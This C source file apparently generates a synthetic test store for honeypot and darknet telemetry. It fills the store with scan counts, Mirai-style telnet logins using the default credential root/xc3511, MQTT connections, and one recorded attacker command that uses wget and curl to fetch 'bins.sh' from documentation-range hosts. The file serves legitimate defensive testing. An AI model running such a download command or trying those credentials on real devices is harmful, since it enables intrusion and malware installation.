/*
 * make-store STORE: a small store with numbers a test can compute by hand.
 *
 * Zone Asia/Tokyo, two weeks 2026-10-01 … 2026-10-14 (the second is the period, the first the one
 * before).  Counts are packets per sensor and day:
 *
 *   sensor  addresses  kind       observed         23/tcp mirai  23/tcp plain  22/tcp   1900/udp
 *   alpha   4          dark       all 14 days      48 + 0        48            24 → 48  0
 *   beta    8          answering  not on Oct 10    96            96            48 → 96  0 → 960
 *   gamma   4          dark       from Oct 8       48            0             0        0
 *
 * 23/tcp mirai comes from 203.0.113.7 (BR, AS 64500), plain from 192.0.2.9 (CN, AS 64501), 22/tcp
 * from 2001:db8:5:6::1 and ::2 in turn (US, AS 64502), 1900/udp from 198.51.100.77 (RU).
 * Backscatter of 80/tcp from 198.51.100.7 (JP, AS 64503): 24 a day at every sensor.
 *
 * "make-store STORE visits" adds what visitors said, per sensor and day of alpha and beta:
 *
 *   six sources 203.0.113.10 … 15 (BR, AS 64500 and 64501): a telnet session each, with the logins
 *     root/xc3511 and admin/taro.yamada@example.jp
 *   beta only: 203.0.113.10 tries admin/Hanako-1964 by telnet, types a wget, leaves a payload;
 *     in the second week 203.0.113.20 (CN, AS 64501) connects twice to MQTT without credentials,
 *     and each week once with (meter, a password nobody else tries)
 *   alpha only: one web login (event http login.basic); beta, on Oct 12 only: one
 *     http exploit.emerge-e3
 */
#include "base/civil.h"
#include "store/store.h"

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define DAYS 14
#define SENSORS 3
#define FIRST_HOUR_US 1790780400000000ll /* 2026-10-01 00:00 in Tokyo */
#define HOURS_PER_DAY 24

static const struct {
	const char *name;
	const char *country;
	const char *kind;
	uint32_t addresses;
	int first_day;
	int gap_day;
	uint32_t mirai, plain, ssh_before, ssh_now, ssdp_now;
} sensors[SENSORS] = {
    {"alpha", "JP", "dark", 4, 0, -1, 2, 2, 1, 2, 0},
    {"beta", "JP", "answering", 8, 0, 9, 4, 4, 2, 4, 40},
    {"gamma", "US", "dark", 4, 7, -1, 2, 0, 0, 0, 0},
};

static void must(int code, const struct err *err)
{
	if (code >= 0)
		return;
	(void)fprintf(stderr, "make-store: %s\n", err->text);
	exit(1);
}

static struct record_text text(const char *t)
{
	return (struct record_text){.data = t, .len = (uint32_t)strlen(t)};
}

static void put(struct store_ingest *ingest, struct record_flow row, uint32_t packets)
{
	struct err err = {0};

	if (packets == 0)
		return;
	row.packets = packets;
	row.bytes = packets * 40;
	row.dsts = 1;
	row.dst_bits = 1;
	row.ttl = 50;
	row.last_second = 30;
	must(store_ingest_flow(ingest, &row, 1, &err), &err);
}

static struct record_flow flow_of(int64_t time, uint16_t sensor, uint8_t proto, uint16_t port,
    struct ip src, const char *country, uint32_t asn)
{
	struct record_flow row = {.time = time,
	    .sensor = sensor,
	    .src_hi = src.hi,
	    .src_lo = src.lo,
	    .proto = proto,
	    .port = port,
	    .class = RECORD_CLASS_REQUEST,
	    .tcp_flags = proto == 6 ? 2 : 0,
	    .asn = asn};

	memcpy(row.country, country, 2);
	return row;
}

static struct ip ip_of(const char *t)
{
	struct ip ip = {0};

	if (ip_parse(t, strlen(t), &ip) < 0)
		abort();
	return ip;
}

static void put_hour(struct store_ingest *ingest, size_t s, uint16_t sensor, int day, int64_t time)
{
	struct record_flow mirai = flow_of(time, sensor, 6, 23, ip_of("203.0.113.7"), "BR", 64500);
	struct record_flow plain = flow_of(time, sensor, 6, 23, ip_of("192.0.2.9"), "CN", 64501);
	struct record_flow ssh = flow_of(time, sensor, 6, 22,
	    ip_of(time / CIVIL_US_PER_MINUTE / 60 % 2 ? "2001:db8:5:6::1" : "2001:db8:5:6::2"),
	    "US", 64502);
	struct record_flow ssdp = flow_of(time, sensor, 17, 1900, ip_of("198.51.100.77"), "RU", 0);
	struct record_flow dos = flow_of(time, sensor, 6, 80, ip_of("198.51.100.7"), "JP", 64503);

	mirai.marks = RECORD_MARK_MIRAI;
	mirai.syn_signature = 0x11111111;
	dos.class = RECORD_CLASS_BACKSCATTER;
	dos.tcp_flags = 0x12;
	dos.victim_hi = dos.src_hi;
	dos.victim_lo = dos.src_lo;
	dos.victim_proto = 6;
	put(ingest, mirai, sensors[s].mirai);
	put(ingest, plain, sensors[s].plain);
	put(ingest, ssh, day < 7 ? sensors[s].ssh_before : sensors[s].ssh_now);
	put(ingest, ssdp, day < 7 ? 0 : sensors[s].ssdp_now);
	put(ingest, dos, 1);
}

#define VISITORS 6

static void put_row(struct store_ingest *ingest, enum record_table_id table, const void *row)
{
	struct err err = {0};

	must(store_ingest_rows(ingest, table, row, 1, &err), &err);
}

struct visit {
	int64_t time;
	uint16_t sensor;
	uint16_t port;
	const char *protocol;
	struct ip src;
	const char *country;
	uint32_t asn;
	uint64_t id;
};

static bool with_visits;
static uint64_t next_session;

static void put_session(struct store_ingest *ingest, struct visit *v, uint32_t logins)
{
	struct record_session row = {.time = v->time,
	    .sensor = v->sensor,
	    .id = ++next_session,
	    .src_hi = v->src.hi,
	    .src_lo = v->src.lo,
	    .sport = 40000,
	    .dport = v->port,
	    .transport = 6,
	    .protocol = text(v->protocol),
	    .passive = 1,
	    .handshake = 2,
	    .bytes_in = 20,
	    .software = text(""),
	    .request = text("root"),
	    .payload = text("root\r\nsecret-of-the-payload\r\n"),
	    .logins = logins,
	    .close = text("fin"),
	    .asn = v->asn};

	v->id = row.id;
	memcpy(row.country, v->country, 2);
	put_row(ingest, RECORD_TABLE_session, &row);
}

static void put_login(struct store_ingest *ingest, const struct visit *v, const char *user,
    const char *password)
{
	struct record_login row = {.time = v->time + 1000,
	    .sensor = v->sensor,
	    .session = v->id,
	    .src_hi = v->src.hi,
	    .src_lo = v->src.lo,
	    .dport = v->port,
	    .protocol = text(v->protocol),
	    .user = text(user),
	    .password = text(password),
	    .secret = text("password"),
	    .outcome = text("refused"),
	    .passive = 1,
	    .asn = v->asn};

	memcpy(row.country, v->country, 2);
	put_row(ingest, RECORD_TABLE_login, &row);
}

static void put_event(struct store_ingest *ingest, const struct visit *v, const char *event,
    uint64_t count)
{
	struct record_event row = {.time = v->time,
	    .sensor = v->sensor,
	    .protocol = text(v->protocol),
	    .event = text(event),
	    .dport = v->port,
	    .count = count};

	memcpy(row.country, v->country, 2);
	put_row(ingest, RECORD_TABLE_event, &row);
}

static void put_download(struct store_ingest *ingest, const struct visit *v)
{
	struct record_command command = {.time = v->time + 2000,
	    .sensor = v->sensor,
	    .session = v->id,
	    .src_hi = v->src.hi,
	    .src_lo = v->src.lo,
	    .dport = v->port,
	    .protocol = text(v->protocol),
	    .text = text("wget http://198.51.100.80/bins.sh; curl http://198.51.100.81/b"),
	    .urls = text("http://198.51.100.80/bins.sh\nhttp://198.51.100.81/b")};
	struct record_payload payload = {.time = v->time + 3000,
	    .sensor = v->sensor,
	    .session = v->id,
	    .src_hi = v->src.hi,
	    .src_lo = v->src.lo,
	    .dport = v->port,
	    .protocol = text(v->protocol),
	    .sha256 = text("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
	    .size = 4,
	    .complete = 1,
	    .kind = text("elf"),
	    .cpu = text("mips-be"),
	    .name = text("bins.sh")};

	memcpy(command.country, v->country, 2);
	memcpy(payload.country, v->country, 2);
	put_row(ingest, RECORD_TABLE_command, &command);
	put_row(ingest, RECORD_TABLE_payload, &payload);
}

static void put_telnet(struct store_ingest *ingest, size_t s, uint16_t sensor, int64_t time)
{
	for (uint32_t i = 0; i < VISITORS; i++) {
		struct visit v = {time, sensor, 23, "telnet", ip_of("203.0.113.10"), "BR",
		    64500 + i % 2, 0};
		bool extra = s == 1 && i == 0;

		v.src.lo += i;
		put_session(ingest, &v, extra ? 3 : 2);
		put_login(ingest, &v, "root", "xc3511");
		put_login(ingest, &v, "admin", "taro.yamada@example.jp");
		if (extra) {
			put_login(ingest, &v, "admin", "Hanako-1964");
			put_download(ingest, &v);
		}
	}
}

static void put_visits(struct store_ingest *ingest, size_t s, uint16_t sensor, int day,
    int64_t start)
{
	struct visit mqtt = {start, sensor, 1883, "mqtt", ip_of("203.0.113.20"), "CN", 64501, 0};
	struct visit http = {start, sensor, 80, "http", ip_of("203.0.113.20"), "CN", 64501, 0};

	if (s > 1)
		return;
	put_telnet(ingest, s, sensor, start);
	if (s == 0) {
		put_event(ingest, &http, "login.basic", 1);
		return;
	}
	put_session(ingest, &mqtt, 1);
	put_login(ingest, &mqtt, "meter", "only-one-source");
	put_event(ingest, &mqtt, "connect.credentials", 1);
	put_event(ingest, &mqtt, "connect", day < 7 ? 1 : 3);
	if (day >= 7) {
		put_session(ingest, &mqtt, 0);
		put_session(ingest, &mqtt, 0);
		put_event(ingest, &mqtt, "connect.anonymous", 2);
	}
	if (day == 11)
		put_event(ingest, &http, "exploit.emerge-e3", 1);
}

static void put_day(struct store_ingest *ingest, size_t s, uint16_t sensor, int day)
{
	int64_t start = FIRST_HOUR_US + day * CIVIL_US_PER_DAY;
	struct record_coverage coverage = {.time = start,
	    .end = start + CIVIL_US_PER_DAY,
	    .sensor = sensor,
	    .addresses = sensors[s].addresses,
	    .packets_read = 1000,
	    .packets_counted = 1000,
	    .drops = text("")};
	struct err err = {0};

	for (int hour = 0; hour < HOURS_PER_DAY; hour++)
		put_hour(ingest, s, sensor, day, start + hour * 60 * CIVIL_US_PER_MINUTE);
	must(store_ingest_coverage(ingest, &coverage, 1, &err), &err);
	if (with_visits)
		put_visits(ingest, s, sensor, day, start);
}

int main(int argc, char **argv)
{
	struct store_options options = {.path = argc > 1 ? argv[1] : "",
	    .mode = STORE_WRITE,
	    .timezone = "Asia/Tokyo",
	    .threads = 1};
	struct store_compact_options compact = {.before_day = INT32_MAX};
	struct store_compact_stats stats;
	struct store *store = NULL;
	struct err err = {0};

	if (argc < 2 || argc > 3) {
		(void)fprintf(stderr, "usage: make-store STORE [loose|visits]\n");
		return 2;
	}
	with_visits = argc == 3 && strcmp(argv[2], "visits") == 0;
	must(store_open(&options, &store, &err), &err);
	for (size_t s = 0; s < SENSORS; s++) {
		struct record_sensor row = {.name = text(sensors[s].name),
		    .kind = text(sensors[s].kind),
		    .tags = text(""),
		    .addresses = sensors[s].addresses};
		struct store_ingest_options begin = {.name = "make-store"};
		struct store_ingest *ingest = NULL;

		memcpy(row.country, sensors[s].country, 2);
		must(store_sensor_put(store, &row, &begin.sensor, &err), &err);
		must(store_ingest_begin(store, &begin, &ingest, &err), &err);
		for (int day = sensors[s].first_day; day < DAYS; day++)
			if (day != sensors[s].gap_day)
				put_day(ingest, s, begin.sensor, day);
		must(store_ingest_commit(ingest, &err), &err);
	}
	must(store_signatures_put(store,
	    &(struct store_signature){0x11111111, "4:64:0:*:14600,0:::0"}, 1, &err), &err);
	/* "loose": nothing merged, so that answers come from flow instead of rollups. */
	if (argc == 2 || with_visits)
		must(store_compact(store, &compact, &stats, &err), &err);
	store_close(store);
	return 0;
}
